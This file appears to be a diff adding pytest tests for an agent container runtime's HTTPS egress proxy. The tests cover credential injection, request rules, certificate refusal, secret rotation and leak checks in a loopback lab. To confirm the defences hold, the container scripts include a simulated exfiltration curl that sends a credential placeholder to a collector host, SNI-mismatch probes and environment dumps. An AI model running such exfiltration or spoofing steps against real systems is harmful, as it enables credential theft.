@@ -1,0 +1,434 @@
+"""Credentials and request rules over HTTPS: TLS interception at the egress
+proxy (docs/CREDENTIALS.md, "TLS"), end to end.
+
+The lab of test_network.py (agentshim inside a test network namespace). The
+upstreams are HTTPS servers of this module on the lab's loopback, with
+certificates from a test CA made here; the proxy's upstream trust store is
+pointed at that CA through the runtime's test-only environment variable
+AGENTSHIM_TEST_UPSTREAM_CA (read by the supervisor from the runtime's own
+environment; the container cannot set it). A third server's certificate
+comes from a CA nobody trusts.
+
+Clients in the container: curl, Python urllib, node (https over a CONNECT
+socket: node's fetch ignores HTTPS_PROXY) and git, from the Debian image of
+test_realimage.py (bench/realimage.py's cached tarball) when it exists;
+otherwise those rows are skipped with the reason and curl runs in the
+busybox rootfs. Each must trust the run's CA through the mounted bundle and
+the variables, and the upstream must receive the real secret; a placeholder
+sent to another allowed (intercepted) host arrives stripped and is
+recorded; a denied method gets 403 with the reason; an upstream with an
+untrusted certificate is refused; a container that never asked for a
+credential gets an opaque tunnel and no CA. The secret's bytes are then
+searched for in every record file and the container's view.
+"""
+import base64
+import json
+import os
+import subprocess
+import sys
+import tarfile  # noqa: F401  (documentation: the image is a plain rootfs tar)
+import time
+from urllib.parse import unquote
+
+import pytest
+
+from conftest import AGENTSHIM, REPO, run  # noqa: F401
+from test_network import UPSTREAM, NetRun, copy_with_libs, lab, net_rootfs, out  # noqa: F401  (fixtures)
+
+SECRET = "sk-live-0123456789abcdefSECRETVALUE"
+sys.path.insert(0, os.path.join(REPO, "bench"))
+from realimage import TARBALL as IMAGE_TAR, ensure_tarball  # noqa: E402  (built once, cached outside the repo)
+
+TLS_LOGSERVER = r"""
+import http.server, json, socketserver, ssl, sys
+addr, port, log, cert, key = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
+class H(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def reply(self):
+        n = int(self.headers.get("Content-Length") or 0)
+        if n:
+            self.rfile.read(n)
+        with open(log, "a") as f:
+            f.write(json.dumps({"where": port, "line": self.requestline,
+                                "headers": [[k, v] for k, v in self.headers.items()]}) + "\n")
+        out = json.dumps({"where": port, "line": self.requestline.split(" ")[0] + " ok"}).encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(out)))
+        self.end_headers()
+        self.wfile.write(out)
+    do_GET = do_POST = do_DELETE = reply
+    def log_message(self, *a): pass
+class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
+    daemon_threads = True
+    allow_reuse_address = True
+    def get_request(self):
+        sock, a = self.socket.accept()
+        sock.settimeout(10)
+        try:
+            return ctx.wrap_socket(sock, server_side=True), a
+        except (ssl.SSLError, OSError):
+            sock.close()
+            raise
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain(cert, key)
+S((addr, port), H).serve_forever()
+"""
+
+NODE_CLIENT = r"""
+const http = require('http'), https = require('https'), tls = require('tls');
+const req = http.request({host: '127.0.0.1', port: 3128, method: 'CONNECT', path: 'api.allowed.test:9443'});
+req.on('connect', (res, sock) => {
+  if (res.statusCode !== 200) { console.log('node connect ' + res.statusCode); return; }
+  const r = https.request({host: 'api.allowed.test', port: 9443, path: '/v1/node',
+                           headers: {Authorization: 'Bearer ' + process.env.API_TOKEN},
+                           createConnection: () => tls.connect({socket: sock, servername: 'api.allowed.test'})},
+    res2 => { let b = ''; res2.on('data', d => b += d); res2.on('end', () => console.log('node ' + res2.statusCode + ' ' + b)); });
+  r.on('error', e => console.log('node error ' + e.message));
+  r.end();
+});
+req.on('error', e => console.log('node error ' + e.message));
+req.end();
+"""
+
+PY_CLIENT = r"""
+import os, urllib.request
+r = urllib.request.Request("https://api.allowed.test:9443/v1/python",
+                           headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
+print("python", urllib.request.urlopen(r, timeout=10).read().decode())
+"""
+
+# Raw CONNECT + TLS with what ordinary clients never send: ALPN h2 only (an
+# HTTP/2-only client), and a server name other than the CONNECT host (an
+# attempt to get a certificate, or the credential, for another host).
+PY_ODD = r"""
+import socket, ssl
+def tunnel():
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+    s.sendall(b"CONNECT api.allowed.test:9443 HTTP/1.1\r\nHost: api.allowed.test:9443\r\n\r\n")
+    r = b""
+    while b"\r\n\r\n" not in r:
+        r += s.recv(1)
+    return s
+for name, alpn, sni in (("h2only", ["h2"], "api.allowed.test"), ("sni", None, "other.test")):
+    s = tunnel()
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    if alpn:
+        ctx.set_alpn_protocols(alpn)
+    try:
+        t = ctx.wrap_socket(s, server_hostname=sni)
+        print(name, "handshake-ok", t.selected_alpn_protocol())
+    except (ssl.SSLError, OSError) as e:
+        print(name, "refused", e)
+"""
+
+
+def openssl(*args):
+    run(["openssl", *args], check=True)
+
+
+def make_ca(d, name):
+    key, cert = os.path.join(d, name + ".key"), os.path.join(d, name + ".pem")
+    openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", key,
+            "-out", cert, "-days", "2", "-subj", f"/CN=agentshim test {name}")
+    return key, cert
+
+
+def make_leaf(d, name, ca_key, ca_cert, sans):
+    key, csr, cert = (os.path.join(d, name + x) for x in (".key", ".csr", ".pem"))
+    ext = os.path.join(d, name + ".ext")
+    with open(ext, "w") as f:
+        f.write("subjectAltName=" + ",".join("DNS:" + s for s in sans) + "\nextendedKeyUsage=serverAuth\n")
+    openssl("req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", key, "-out", csr,
+            "-subj", f"/CN={sans[0]}")
+    openssl("x509", "-req", "-in", csr, "-CA", ca_cert, "-CAkey", ca_key, "-CAcreateserial", "-out", cert, "-days",
+            "2", "-extfile", ext)
+    return cert, key
+
+
+@pytest.fixture(scope="module")
+def tls_lab(lab, tmp_path_factory):
+    """HTTPS logging servers: 9443 (the credential's API, trusted test CA),
+    9444 (another allowed host, trusted), 9445 (a certificate from a CA
+    nobody trusts). The runtime's upstream trust store is the test CA."""
+    d = str(tmp_path_factory.mktemp("tlslab"))
+    ca_key, ca = make_ca(d, "ca")
+    bad_key, bad_ca = make_ca(d, "untrusted")
+    good = make_leaf(d, "good", ca_key, ca, ["api.allowed.test", "other.test"])
+    bad = make_leaf(d, "bad", bad_key, bad_ca, ["api.allowed.test"])
+    srv = os.path.join(d, "tlsserver.py")
+    with open(srv, "w") as f:
+        f.write(TLS_LOGSERVER)
+    log = os.path.join(d, "requests.ndjson")
+    for port, (cert, key) in ((9443, good), (9444, good), (9445, bad)):
+        lab.spawn(["/usr/bin/python3", srv, UPSTREAM, str(port), log, cert, key])
+        lab.wait_listening(UPSTREAM, port)
+    old = os.environ.get("AGENTSHIM_TEST_UPSTREAM_CA")
+    os.environ["AGENTSHIM_TEST_UPSTREAM_CA"] = ca
+    yield {"log": log, "ca": ca, "dir": d}
+    if old is None:
+        os.environ.pop("AGENTSHIM_TEST_UPSTREAM_CA", None)
+    else:
+        os.environ["AGENTSHIM_TEST_UPSTREAM_CA"] = old
+
+
+@pytest.fixture(scope="module")
+def debian_root(tmp_path_factory):
+    """The Debian image (python3, git, nodejs) unpacked, with the host's
+    curl added (built by mmdebstrap once, as test_realimage's); None when
+    it cannot be built."""
+    try:
+        ensure_tarball(IMAGE_TAR)
+    except (OSError, subprocess.CalledProcessError):
+        return None
+    d = str(tmp_path_factory.mktemp("debian") / "rootfs")
+    os.makedirs(d)
+    run(["tar", "-xf", IMAGE_TAR, "-C", d, "--exclude=./dev/*"], check=True, timeout=300)
+    copy_with_libs("/usr/bin/curl", d)
+    with open(os.path.join(d, "client.js"), "w") as f:
+        f.write(NODE_CLIENT)
+    with open(os.path.join(d, "client.py"), "w") as f:
+        f.write(PY_CLIENT)
+    with open(os.path.join(d, "odd.py"), "w") as f:
+        f.write(PY_ODD)
+    return d
+
+
+def received(log):
+    if not os.path.exists(log):
+        return []
+    return [json.loads(line) for line in open(log)]
+
+
+def secret_file(tmp):
+    p = os.path.join(tmp, "api.secret")
+    with open(p, "w") as f:
+        f.write(SECRET + "\n")
+    os.chmod(p, 0o600)
+    return p
+
+
+def make_run(lab, rootfs, tmp, annotate=True, ports=(9443,), rules=None):
+    n = NetRun(lab, tmp, rootfs, ["api.allowed.test:9443", "api.allowed.test:9445", "other.test:9444"])
+    with open(n.policy) as f:
+        pol = json.load(f)
+    pol["credentials"] = {"api": {
+        "source": {"file": secret_file(tmp)},
+        "placeholder_env": "API_TOKEN",
+        "destinations": [{"host": "api.allowed.test", "port": p, "path_prefix": "/v1/"} for p in ports],
+        "apply": {"header": "Authorization", "format": "Bearer {}"}}}
+    if rules:
+        pol["network"]["request_rules"] = rules
+    with open(n.policy, "w") as f:
+        json.dump(pol, f)
+    if annotate:
+        n.bundle.config["annotations"] = {"dev.agentshim.credentials": "api"}
+        n.bundle.save()
+    return n
+
+
+def every_file(root):
+    for dirpath, _, files in os.walk(root):
+        for name in files:
+            p = os.path.join(dirpath, name)
+            if os.path.isfile(p) and not os.path.islink(p):
+                yield p
+
+
+def headers_of(g):
+    return dict((k.lower(), v) for k, v in g["headers"])
+
+
+RULES = [
+    # GET and POST only on the API; any method on the other host (a rule
+    # makes it intercepted, so a placeholder sent there is caught).
+    {"host": "api.allowed.test", "port": 9443, "methods": ["GET", "POST"], "action": "allow"},
+    {"host": "other.test", "port": 9444, "action": "allow"},
+]
+
+
+def test_https_clients_get_the_secret_and_it_never_leaks(lab, tls_lab, net_rootfs, debian_root, tmp_path):
+    tmp = str(tmp_path)
+    n = make_run(lab, net_rootfs, tmp, rules=RULES)
+    full = debian_root is not None
+    if full:
+        n.bundle.config["root"] = {"path": debian_root, "readonly": True}
+        n.bundle.save()
+    before = len(received(tls_lab["log"]))
+    script = (
+        'echo "placeholder=$API_TOKEN";'
+        'echo "cafile=$SSL_CERT_FILE,$REQUESTS_CA_BUNDLE,$NODE_EXTRA_CA_CERTS,$CURL_CA_BUNDLE,$GIT_SSL_CAINFO";'
+        # curl: the placeholder where the API expects its key, then keep-alive
+        # requests on one connection (each checked and recorded).
+        'curl -sS --max-time 10 -H "Authorization: Bearer $API_TOKEN" https://api.allowed.test:9443/v1/models'
+        '  https://api.allowed.test:9443/v1/second; echo;'
+        # A method the rules deny: 403 with the reason, over TLS.
+        'curl -sS --max-time 10 -w " status=%{http_code}" -X DELETE https://api.allowed.test:9443/v1/models; echo;'
+        # The placeholder to another allowed (intercepted) host: stripped.
+        'curl -sS --max-time 10 -H "X-Exfil: $API_TOKEN" https://other.test:9444/collect; echo;'
+    )
+    if full:
+        script += (
+            'python3 /client.py 2>&1; echo " pyrc=$?"; python3 /odd.py 2>&1;'
+            'node /client.js 2>&1; echo " noderc=$?";'
+            'git -c http.extraHeader="Authorization: Bearer $API_TOKEN" ls-remote'
+            '  https://api.allowed.test:9443/v1/repo.git 2>&1 | head -3; echo " git done";'
+        )
+    script += (
+        'echo ENV; cat /proc/self/environ | tr "\\0" "\\n"; echo FILES;'
+        'grep -rl -s "SECRETVALU[E]" /etc /tmp /run /root /home 2>/dev/null; echo END;'
+        'grep -c "BEGIN CERTIFICATE" /etc/agentshim-ca.pem; grep agentshim-ca /proc/self/mountinfo'
+    )
+    r = n.sh(script, timeout=120)
+    text = out(r) + r.stderr.decode(errors="replace")
+    assert r.returncode == 0, text
+    placeholder = text.split("placeholder=")[1].split()[0]
+    assert placeholder.startswith("agentshim-cred-"), text
+    assert "cafile=" + ",".join(["/etc/agentshim-ca.pem"] * 5) in text, text
+    assert " ro," in text.split("END")[1] or ",ro" in text.split("END")[1], text  # mounted read-only
+    assert '{"where": 9443, "line": "GET ok"}' in text, text
+    assert "status=403" in text and "no request rule for this destination allows DELETE" in text, text
+    assert '{"where": 9444, "line": "GET ok"}' in text, text
+    if full:
+        assert "python {" in text and "pyrc=0" in text, text
+        assert "node 200" in text, text
+        assert "h2only refused" in text and "no application protocol" in text.lower(), text
+        assert "sni refused" in text and "unrecognized name" in text.lower(), text
+        # The image's own CAs are still trusted: the bundle holds them too.
+        assert int(text.split("END")[1].split()[0]) > 50, text
+
+    got = received(tls_lab["log"])[before:]
+    by_path = {}
+    for g in got:
+        by_path.setdefault(g["line"].split(" ")[1].split("?")[0], []).append(headers_of(g))
+    paths = ["/v1/models", "/v1/second"] + (["/v1/python", "/v1/node", "/v1/repo.git/info/refs"] if full else [])
+    for p in paths:
+        assert by_path[p][0].get("authorization") == f"Bearer {SECRET}", (p, got)
+    assert "x-exfil" not in by_path["/collect"][0], got
+    assert not any(g["line"].startswith("DELETE") for g in got), got
+    for g in got:
+        assert placeholder not in json.dumps(g), g
+
+    # The record: each intercepted request is an event with its path and the
+    # credential's name; the placeholder sent to other.test is caught.
+    conns = [e["data"] for e in n.events({"net.connection"})]
+    tls_reqs = [c for c in conns if c.get("tls") == "intercepted" and c["method"] != "CONNECT"]
+    applied = sorted(c["path"] for c in tls_reqs if c.get("credential") == "api")
+    assert applied[:2] == ["/v1/models", "/v1/second"] or "/v1/models" in applied, conns
+    assert all(c["host"] == "api.allowed.test" for c in tls_reqs if c.get("credential")), conns
+    second = [c for c in tls_reqs if c["path"] == "/v1/second"][0]
+    first = [c for c in tls_reqs if c["path"] == "/v1/models" and c["method"] == "GET"][0]
+    assert first["client_port"] == second["client_port"] and second["request"] == 2, conns  # keep-alive
+    denied = [c for c in tls_reqs if c["method"] == "DELETE"]
+    assert denied and denied[0]["status"] == 403 and denied[0]["decision"] == "denied", conns
+    if full:
+        odd = [c for c in conns if c["method"] == "CONNECT" and c["decision"] == "denied"]
+        # (strings from the container are pct-encoded in the record)
+        assert any("HTTP/2-only" in unquote(c["reason"]) for c in odd), conns
+        assert any("TLS server name other.test does not match the CONNECT host api.allowed.test"
+                   in unquote(c["reason"]) for c in odd), conns
+    caught = [e["data"] for e in n.events({"net.credential"})]
+    assert [(c["host"], c["action"]) for c in caught] == [("other.test", "stripped")], caught
+    ns = n.events({"net.namespace"})[0]["data"]
+    assert ns["tls"]["interception"] is True and ns["tls"]["ca_path"] == "/etc/agentshim-ca.pem", ns
+    run_dir = n.last_run_dir()
+    envelope = json.load(open(os.path.join(run_dir, "attestation.intoto.json")))
+    statement = base64.b64decode(envelope["payload"])
+    net = json.loads(statement)["predicate"]["network"]
+    # (git may ask twice; the count is the record's, by name)
+    n_applied = len([c for c in conns if c.get("credential") == "api"])
+    assert n_applied >= len(paths) and net["credentials"]["requests"]["api"] == n_applied, net
+    assert net["tls"]["intercepted_connections"] >= len(paths) and net["tls"]["certificates_issued"] == 2, net
+    assert net["credentials"]["placeholders_caught"] == 1, net
+    assert b"SECRETVALUE" not in statement
+
+    # The secret's bytes: nowhere in the record, the state, the container's
+    # files, or what the container printed.
+    assert "SECRETVALUE" not in text
+    for root in (n.audit, n.root, n.bundle.path):
+        for p in every_file(root):
+            with open(p, "rb") as f:
+                assert b"SECRETVALUE" not in f.read(), p
+    if not full:
+        pytest.skip(f"curl rows passed; python, node, git, the h2-only and server-name rows need the Debian "
+                    f"image {IMAGE_TAR} (bench/realimage.py builds it)")
+
+
+def test_upstream_with_an_untrusted_certificate_is_refused(lab, tls_lab, net_rootfs, tmp_path):
+    tmp = str(tmp_path)
+    n = make_run(lab, net_rootfs, tmp, ports=(9445,))
+    before = len(received(tls_lab["log"]))
+    r = n.sh('curl -sS -v --max-time 10 https://api.allowed.test:9445/v1/x 2>&1; echo " rc=$?"')
+    text = out(r)
+    assert "rc=0" not in text and "502" in text, text
+    assert "upstream certificate not trusted" in text, text
+    assert not received(tls_lab["log"])[before:]
+    refused = [e["data"] for e in n.events({"net.connection"}) if e["data"]["port"] == 9445]
+    assert len(refused) == 1 and refused[0]["status"] == 502 and refused[0]["end"] == "refused", refused
+    assert "upstream certificate not trusted" in unquote(refused[0]["reason"]), refused
+
+
+def test_container_that_never_asked_gets_an_opaque_tunnel_and_no_ca(lab, tls_lab, net_rootfs, tmp_path):
+    """The policy defines the credential; without the annotation the CONNECT
+    is an opaque tunnel: the client sees the upstream's own certificate (the
+    test CA's, given to curl explicitly), and nothing is mounted or set."""
+    tmp = str(tmp_path)
+    n = make_run(lab, net_rootfs, tmp, annotate=False)
+    with open(tls_lab["ca"]) as f, open(os.path.join(n.bundle.rootfs, "test-ca.pem"), "w") as g:
+        g.write(f.read())
+    r = n.sh('echo "ca=${SSL_CERT_FILE:-unset} tok=${API_TOKEN:-unset}";'
+             'grep -c agentshim-ca /proc/self/mountinfo;'
+             'curl -sS -v --max-time 10 --cacert /test-ca.pem https://api.allowed.test:9443/v1/own 2>&1 |'
+             ' grep -i -e "issuer:" -e "where"')
+    text = out(r)
+    assert "ca=unset tok=unset" in text, text
+    assert text.split("tok=unset")[1].split()[0] == "0", text
+    assert "agentshim test ca" in text.lower() and '"where": 9443' in text, text
+    conns = [e["data"] for e in n.events({"net.connection"})]
+    assert conns and all("tls" not in c for c in conns), conns
+    ns = n.events({"net.namespace"})[0]["data"]
+    assert "tls" not in ns, ns
+
+
+def test_rotation_applies_a_new_secret_without_restarting(lab, tls_lab, net_rootfs, tmp_path):
+    """A file source is re-read when it changes (checked at most once a
+    second per request): the running container's next request carries the
+    new value."""
+    tmp = str(tmp_path)
+    n = make_run(lab, net_rootfs, tmp)
+    path = os.path.join(tmp, "api.secret")
+    flag = os.path.join(n.bundle.rootfs, "rotated")
+    if os.path.exists(flag):
+        os.unlink(flag)
+    before = len(received(tls_lab["log"]))
+    script = ('curl -sS --max-time 10 https://api.allowed.test:9443/v1/before; echo;'
+              'i=0; while [ ! -e /rotated ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done;'
+              'curl -sS --max-time 10 https://api.allowed.test:9443/v1/after; echo')
+    n.bundle.sh(script)
+    import uuid
+    cid = "t" + uuid.uuid4().hex[:12]
+    p = subprocess.Popen(n.lab.runtime(AGENTSHIM, "--root", n.root, "--audit-dir", n.audit, "--policy", n.policy,
+                                       "run", "--bundle", n.bundle.path, cid),
+                         stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    try:
+        for _ in range(300):
+            if any("/v1/before" in g["line"] for g in received(tls_lab["log"])[before:]):
+                break
+            time.sleep(0.1)
+        tmpfile = path + ".new"
+        with open(tmpfile, "w") as f:
+            f.write("sk-rotated-NEWVALUE\n")
+        os.chmod(tmpfile, 0o600)
+        os.rename(tmpfile, path)
+        time.sleep(1.1)
+        open(flag, "w").close()
+        so, se = p.communicate(timeout=60)
+    finally:
+        if p.poll() is None:
+            p.kill()
+        n.cli("delete", "--force", cid)
+    got = {g["line"].split(" ")[1]: headers_of(g) for g in received(tls_lab["log"])[before:]}
+    assert got["/v1/before"]["authorization"] == f"Bearer {SECRET}", (got, so, se)
+    assert got["/v1/after"]["authorization"] == "Bearer sk-rotated-NEWVALUE", (got, so, se)
+    rot = [e["data"] for e in n.events({"net.credential_rotation"}) if e["data"].get("action") == "rotated"]
+    assert rot and rot[0]["credential"] == "api" and "NEWVALUE" not in json.dumps(rot), rot
